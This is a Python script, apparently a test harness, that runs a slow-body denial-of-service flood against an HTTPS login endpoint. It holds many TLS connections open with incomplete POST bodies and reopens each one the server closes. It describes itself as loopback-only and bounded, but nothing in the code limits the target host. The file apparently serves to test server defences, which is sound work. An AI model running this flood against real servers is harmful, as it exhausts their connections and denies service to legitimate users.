#!/usr/bin/env python3
"""Slow-body flood against the HTTPS door, from one source address (the test's attacker).

Opens up to COUNT TLS connections from SOURCE at once, each sending a `POST /login` head with
`Content-Length: 1000` and then only six body bytes, holds them open, and reopens every one the
server closes, until SECONDS have passed. Prints one JSON line: how many connections completed
the TLS handshake, the most that were open (handshake done, not yet closed by the server) at one
moment, and how many the server refused or closed.

Bounded in count (COUNT at once) and in time (SECONDS), loopback only.
usage: slow_flood.py HOST PORT SOURCE COUNT SECONDS
"""
import asyncio
import json
import resource
import ssl
import sys
import time

HOST, PORT, SOURCE = sys.argv[1], int(sys.argv[2]), sys.argv[3]
COUNT, SECONDS = int(sys.argv[4]), float(sys.argv[5])

HEAD = (
    b"POST /login HTTP/1.1\r\nHost: localhost\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nuser=a"
)

stats = {"handshakes": 0, "open": 0, "max_open": 0, "refused": 0, "closed_by_server": 0}


def context():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


async def one(ctx, deadline):
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(
                    HOST, PORT, ssl=ctx, local_addr=(SOURCE, 0), server_hostname="localhost"
                ),
                timeout=max(0.1, deadline - time.monotonic()),
            )
        except (OSError, ssl.SSLError, asyncio.TimeoutError, ConnectionError):
            stats["refused"] += 1
            await asyncio.sleep(0.25)
            continue
        stats["handshakes"] += 1
        stats["open"] += 1
        stats["max_open"] = max(stats["max_open"], stats["open"])
        try:
            writer.write(HEAD)
            await writer.drain()
            # Hold the connection until the server gives up on the body (or time is up).
            await asyncio.wait_for(reader.read(), timeout=max(0.1, deadline - time.monotonic()))
            stats["closed_by_server"] += 1
        except (OSError, ssl.SSLError, asyncio.TimeoutError, ConnectionError):
            pass
        finally:
            stats["open"] -= 1
            writer.close()


async def main():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, COUNT + 256)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    ctx = context()
    deadline = time.monotonic() + SECONDS
    await asyncio.gather(*(one(ctx, deadline) for _ in range(COUNT)))
    print(json.dumps(stats), flush=True)


asyncio.run(main())
